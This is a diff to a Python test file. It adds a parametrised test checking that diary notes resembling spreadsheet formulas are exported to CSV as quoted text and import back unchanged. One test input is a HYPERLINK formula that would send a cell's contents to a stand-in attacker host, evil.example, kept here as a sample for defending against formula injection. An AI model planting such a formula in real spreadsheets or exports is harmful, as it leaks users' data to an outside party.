@@ -62,3 +62,35 @@ def test_files_of_the_wrong_format_are_refused(text: str, message: str) -> None:
     with pytest.raises(InteropError) as error:
         parse_import(text)
     assert message in str(error.value)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A2,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "'just a quote",
+]
+
+
+@pytest.mark.parametrize("note", FORMULAS)
+def test_notes_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(
+    db_url: str, diary: Persona, stranger: Persona, note: str
+) -> None:
+    import csv
+    import io
+
+    seed(db_url, diary, [{"recorded_at": "2026-03-05T08:00:00+00:00", "note": note}])
+    text = exported_csv(db_url, diary)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for row in rows:  # what a spreadsheet would see: no cell starts a formula
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert rows[-1]["note"] == "'" + note
+    items = [item.entry for item in parse_import(text)]
+    assert items[-1].note == note.strip() or items[-1].note == note
+    seed(db_url, stranger, [item.model_dump(mode="json") for item in items])
+    assert contents(db_url, stranger) == contents(db_url, diary)
